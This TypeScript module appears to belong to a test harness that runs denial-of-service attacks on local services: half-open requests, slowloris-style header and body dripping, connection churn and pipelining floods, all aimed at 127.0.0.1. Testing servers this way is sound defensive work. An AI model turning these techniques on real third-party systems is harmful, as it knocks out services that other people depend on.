import { connect, type Socket } from 'node:net';
import { type Attack, type AttackContext, lanes, rest, type Service, startOver } from '../attack.ts';

/** More than any one address needs. */
const HALF_OPEN = 2_200;
const SLOW = 500;
const OPENED_AT_ONCE = 50;
const DRIP_MS = 500;

function open({ ports, from }: AttackContext, service: Service): Socket {
  const socket = connect({ port: ports[service], host: '127.0.0.1', localAddress: from });
  socket.on('error', () => undefined);
  return socket;
}

/** Keeps this many connections, opening others when the server ends some, and does something with each now and then. */
async function hold(
  context: AttackContext,
  service: Service,
  options: { connections: number; first: string; drip?: string },
): Promise<void> {
  const sockets = new Set<Socket>();
  const timer = setInterval(() => {
    for (let opened = 0; opened < OPENED_AT_ONCE && sockets.size < options.connections; opened += 1) {
      const socket = open(context, service);
      sockets.add(socket);
      context.count();
      socket.on('close', () => sockets.delete(socket));
      socket.on('data', () => undefined);
      socket.write(options.first);
    }
  }, 10);
  const { drip } = options;
  const dripping =
    drip === undefined
      ? undefined
      : setInterval(() => {
          for (const socket of sockets) if (socket.writable) socket.write(drip);
        }, DRIP_MS);
  await startOver(context);
  clearInterval(timer);
  clearInterval(dripping);
  for (const socket of sockets) socket.destroy();
}

/** Connections on which a request is begun and never ended. */
export const halfOpen =
  (service: Service): Attack =>
  (context) =>
    hold(context, service, { connections: HALF_OPEN, first: 'POST / HTTP/1.1\r\nHost: 127.0.0.1\r\n' });

/** A header line every half second. */
export const slowHeaders =
  (service: Service): Attack =>
  (context) =>
    hold(context, service, { connections: SLOW, first: 'GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n', drip: 'X-A: b\r\n' });

/** A byte of a body every half second. */
export const slowBody =
  (service: Service, path: string): Attack =>
  (context) =>
    hold(context, service, {
      connections: SLOW,
      first: `POST ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 16000\r\n\r\n`,
      drip: ' ',
    });

/** Connections that are opened and reset. */
export const churn =
  (service: Service): Attack =>
  (context) =>
    lanes(50, context, async () => {
      const socket = open(context, service);
      await new Promise<void>((resolve) => {
        socket.once('connect', () => resolve());
        socket.once('close', () => resolve());
      });
      context.count();
      socket.resetAndDestroy();
    });

/** Many requests on one connection without reading an answer. */
export const pipelining =
  (service: Service, path: string): Attack =>
  (context) =>
    lanes(4, context, async () => {
      const socket = open(context, service);
      socket.pause();
      const requests = `GET ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n`.repeat(200);
      for (let round = 0; round < 100 && !context.over.aborted && !socket.destroyed; round += 1) {
        const isRoom = socket.write(requests);
        context.count(200);
        await (isRoom ? rest(1) : Promise.race([drained(socket), startOver(context), rest(1_000)]));
      }
      socket.destroy();
    });

const drained = (socket: Socket): Promise<void> =>
  new Promise((resolve) => {
    socket.once('drain', () => resolve());
    socket.once('close', () => resolve());
  });
